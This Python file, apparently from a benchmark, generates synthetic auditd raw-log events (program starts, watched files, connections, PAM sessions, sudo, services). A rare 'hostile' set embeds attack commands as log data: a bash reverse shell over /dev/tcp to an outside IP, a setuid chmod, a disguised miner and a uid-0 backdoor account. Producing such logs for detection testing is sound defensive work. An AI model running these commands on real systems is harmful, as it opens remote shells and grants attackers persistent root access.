"""auditd's raw log: records as `auditd` writes them with `log_format = RAW`.

Mostly program starts (`-a always,exit -S execve`), each of them SYSCALL, EXECVE, CWD, two PATH
and PROCTITLE records; the rest are watched files, connections, sessions of sshd, sudo and cron,
and services. Records of two events interleave now and then, as they do on a busy machine.
"""

from collections.abc import Callable, Iterator

from benchmarks.shapes.dice import Clock, Dice, slots

EVENTS_PER_S = 25.0
UNSET = 4_294_967_295

_COMMANDS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("/usr/bin/ls", ("ls", "-la", "/srv/app/releases")),
    ("/usr/bin/grep", ("grep", "-r", "--include=*.conf", "listen", "/etc/nginx")),
    ("/usr/bin/sed", ("sed", "-n", "1,20p", "/srv/app/current/config.yaml")),
    ("/usr/bin/awk", ("awk", "{print $2}", "/proc/loadavg")),
    ("/usr/bin/cut", ("cut", "-d:", "-f1")),
    ("/usr/bin/date", ("date", "+%s")),
    ("/usr/bin/sleep", ("sleep", "15")),
    ("/usr/bin/find", ("find", "/srv/app/shared", "-name", "*.pid", "-mmin", "+60")),
    (
        "/usr/bin/python3.11",
        ("python3", "/opt/agent/collect.py", "--interval", "30", "--out", "/run/agent"),
    ),
    ("/usr/bin/dash", ("sh", "-c", "command -v debian-sa1 > /dev/null && debian-sa1 1 1")),
    ("/usr/bin/bash", ("bash", "-c", "cd /srv/app/current && bundle exec rake jobs:tick")),
    ("/usr/bin/git", ("git", "rev-parse", "--short", "HEAD")),
    ("/usr/bin/df", ("df", "-P", "-k")),
    ("/usr/bin/stat", ("stat", "-c", "%Y", "/srv/app/shared/log/production.log")),
    ("/usr/sbin/runc", ("runc", "--root", "/run/containerd/runc/k8s.io", "state")),
    ("/usr/bin/node", ("node", "/srv/app/current/worker.js", "--queue", "default")),
    ("/usr/bin/jq", ("jq", "-r", ".status", "/run/agent/state.json")),
    ("/usr/bin/test", ("test", "-e", "/run/agent/pause")),
    ("/usr/bin/mkdir", ("mkdir", "-p", "/srv/app/shared/cache")),
    ("/usr/bin/readlink", ("readlink", "-f", "/srv/app/current")),
)
# What public rules look at; nearly always an administrator or a script.
_CURIOUS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("/usr/bin/id", ("id", "-u")),
    ("/usr/bin/uname", ("uname", "-r")),
    ("/usr/bin/hostname", ("hostname", "-f")),
    ("/usr/bin/whoami", ("whoami",)),
    ("/usr/bin/systemctl", ("systemctl", "restart", "nginx")),
)
_HOSTILE: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("/usr/bin/bash", ("bash", "-c", "bash -i >& /dev/tcp/198.18.7.9/4444 0>&1")),
    ("/usr/bin/chmod", ("chmod", "u+s", "/tmp/.x")),
    ("/tmp/.x/kworkerd", ("./kworkerd", "--donate-level=1", "-o", "pool.example.net:3333")),
    ("/usr/sbin/useradd", ("useradd", "-o", "-u", "0", "-g", "0", "backup2")),
)
_PEOPLE = (("ana", 1001), ("ben", 1002), ("deploy", 1100), ("ansible", 1101))
_UNITS = (
    "apt-daily",
    "logrotate",
    "fstrim",
    "man-db",
    "systemd-tmpfiles-clean",
    "certbot",
    "sysstat-collect",
)
_COLLECT = b"python3\0/opt/agent/collect.py".hex().upper()
_WORKER = b"node\0/srv/app/current/worker.js".hex().upper()


def _value(text: str) -> str:
    """An argument as auditd writes it: quoted, or hex where it holds a space or a quote."""
    if all("!" <= c <= "~" and c != '"' for c in text):
        return f'"{text}"'
    return text.encode().hex().upper()


class _Log:
    """Draws one event (a group of lines) after another."""

    def __init__(self, seed: int) -> None:
        self.dice = Dice(seed)
        self.clock = Clock(self.dice, EVENTS_PER_S)
        self.serial = 41_000
        self.prepared = {
            command: (
                f"argc={len(command[1])} "
                + " ".join(f"a{i}={_value(a)}" for i, a in enumerate(command[1])),
                "\0".join(command[1]).encode().hex().upper(),
            )
            for command in (*_COMMANDS, *_CURIOUS, *_HOSTILE)
        }
        self.table: tuple[Callable[[], str], ...] = slots(
            (
                (74.0, self.start),
                (8.0, self.open_file),
                (4.0, self.connect),
                (7.5, self.session),
                (2.0, self.sudo),
                (3.5, self.service),
                (0.6, self.curious),
                (0.38, self.guess),
                (0.02, self.hostile),
            )
        )

    def _mark(self) -> str:
        self.serial += 1
        now = self.clock.tick()
        return f"audit({now // 1_000_000}.{now // 1000 % 1000:03d}:{self.serial}):"

    def _login(self) -> tuple[int, int, str]:
        """(login uid, session, terminal)."""
        if self.dice.roll() < 0.7:
            return UNSET, UNSET, "(none)"
        name_uid = self.dice.pick(_PEOPLE)[1]
        return name_uid, 1 + self.dice.below(400), f"pts{self.dice.below(4)}"

    def _syscall(self, mark: str, number: int, exe: str, comm: str, key: str, items: int) -> str:
        dice = self.dice
        login, session, terminal = self._login()
        uid = 0 if dice.roll() < 0.55 else (998 if login == UNSET else login)
        bits = dice.bits(128)
        parent = 600 + dice.below(30_000)
        return (
            f"type=SYSCALL msg={mark} arch=c000003e syscall={number} success=yes exit=0 "
            f"a0=55{bits & 0xFFFFFFFFFF:010x} a1=55{bits >> 40 & 0xFFFFFFFFFF:010x} "
            f"a2=7f{bits >> 80 & 0xFFFFFFFFFF:010x} a3=8 items={items} ppid={parent} "
            f"pid={parent + 1 + dice.below(4000)} auid={login} uid={uid} gid={uid} euid={uid} "
            f"suid={uid} "
            f"fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={terminal} ses={session} "
            f'comm="{comm[:15]}" exe="{exe}" subj=unconfined key={key}'
        )

    def _path(self, mark: str, item: int, name: str, kind: str = "NORMAL") -> str:
        inode = 100_000 + self.dice.below(900_000)
        return (
            f"type=PATH msg={mark} item={item} name={_value(name)} inode={inode} dev=fd:01 "
            "mode=0100755 ouid=0 "
            f"ogid=0 rdev=00:00 nametype={kind} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
        )

    def _execve(self, command: tuple[str, tuple[str, ...]]) -> list[str]:
        exe, arguments = command
        mark = self._mark()
        listed, title = self.prepared[command]
        comm = arguments[0].rsplit("/", 1)[-1]
        return [
            self._syscall(mark, 59, exe, comm, '"exec"', 2),
            f"type=EXECVE msg={mark} {listed}",
            f'type=CWD msg={mark} cwd="/srv/app/current"',
            self._path(mark, 0, exe),
            self._path(mark, 1, "/lib64/ld-linux-x86-64.so.2"),
            f"type=PROCTITLE msg={mark} proctitle={title}",
        ]

    def start(self) -> str:
        dice = self.dice
        lines = self._execve(dice.pick(_COMMANDS))
        if dice.roll() < 0.04:
            other = self._execve(dice.pick(_COMMANDS))
            return "\n".join([lines[0], *other[:2], *lines[1:], *other[2:]])
        return "\n".join(lines)

    def curious(self) -> str:
        return "\n".join(self._execve(self.dice.pick(_CURIOUS)))

    def hostile(self) -> str:
        return "\n".join(self._execve(self.dice.pick(_HOSTILE)))

    def open_file(self) -> str:
        mark = self._mark()
        name = self.dice.pick(
            ("/etc/ssl/private/app.key", "/etc/sudoers", "/srv/app/shared/.env.local")
        )
        if name.startswith("/srv"):
            name = "/srv/app/shared/settings.yaml"
        return "\n".join(
            (
                self._syscall(mark, 257, "/usr/bin/python3.11", "python3", '"read-watched"', 1),
                f'type=CWD msg={mark} cwd="/"',
                self._path(mark, 0, name),
                f"type=PROCTITLE msg={mark} proctitle={_COLLECT}",
            )
        )

    def connect(self) -> str:
        mark = self._mark()
        address = f"0200{self.dice.bits(16):04X}0A00{self.dice.bits(16):04X}0000000000000000"
        return "\n".join(
            (
                self._syscall(mark, 42, "/usr/bin/node", "node", '"net"', 0),
                f"type=SOCKADDR msg={mark} saddr={address}",
                f"type=PROCTITLE msg={mark} proctitle={_WORKER}",
            )
        )

    def _user(
        self, kind: str, message: str, exe: str, terminal: str, *, failed: bool = False
    ) -> str:
        dice = self.dice
        host = f"10.8.0.{dice.below(200)}" if "sshd" in exe else "?"
        return (
            f"type={kind} msg={self._mark()} pid={600 + dice.below(30_000)} uid=0 auid={UNSET} "
            f"ses={UNSET} "
            f'subj=unconfined msg=\'{message} exe="{exe}" hostname={host} addr={host} '
            f"terminal={terminal} "
            f"res={'failed' if failed else 'success'}'"
        )

    def session(self) -> str:
        dice = self.dice
        if dice.roll() < 0.6:
            exe, terminal, name = "/usr/sbin/cron", "cron", "root"
        else:
            exe, terminal, name = "/usr/sbin/sshd", "ssh", dice.pick(_PEOPLE)[0]
        kind, message = dice.pick(
            (
                ("USER_ACCT", "op=PAM:accounting grantors=pam_permit"),
                ("CRED_ACQ", "op=PAM:setcred grantors=pam_permit,pam_cap"),
                (
                    "USER_START",
                    "op=PAM:session_open grantors=pam_loginuid,pam_env,pam_permit,pam_unix",
                ),
                ("CRED_DISP", "op=PAM:setcred grantors=pam_permit,pam_cap"),
                (
                    "USER_END",
                    "op=PAM:session_close grantors=pam_loginuid,pam_env,pam_permit,pam_unix",
                ),
            )
        )
        return self._user(kind, f'{message} acct="{name}"', exe, terminal)

    def guess(self) -> str:
        name = self.dice.pick(("admin", "oracle", "test", "ubuntu", "postgres"))
        message = f'op=PAM:authentication grantors=? acct="{name}"'
        return self._user("USER_AUTH", message, "/usr/sbin/sshd", "ssh", failed=True)

    def sudo(self) -> str:
        dice = self.dice
        name, uid = dice.pick(_PEOPLE)
        command = dice.pick(
            ("apt-get update", "journalctl -u nginx", "cat /srv/app/shared/settings.yaml")
        )
        terminal = f"pts/{dice.below(4)}"
        return (
            f"type=USER_CMD msg={self._mark()} pid={600 + dice.below(30_000)} uid={uid} auid={uid} "
            f'ses={1 + dice.below(400)} subj=unconfined msg=\'cwd="/home/{name}" '
            f'cmd={command.encode().hex().upper()} exe="/usr/bin/sudo" terminal={terminal} '
            "res=success'"
        )

    def service(self) -> str:
        dice = self.dice
        kind = dice.pick(("SERVICE_START", "SERVICE_STOP"))
        return (
            f"type={kind} msg={self._mark()} pid=1 uid=0 auid={UNSET} ses={UNSET} subj=unconfined "
            f'msg=\'unit={dice.pick(_UNITS)} comm="systemd" exe="/usr/lib/systemd/systemd" '
            "hostname=? addr=? "
            "terminal=? res=success'"
        )


def events(seed: int) -> Iterator[str]:
    """Events without end; each is the lines of its records, without the last line end."""
    log = _Log(seed)
    table, roll, size = log.table, log.dice.roll, len(log.table)
    while True:
        yield table[int(roll() * size)]()
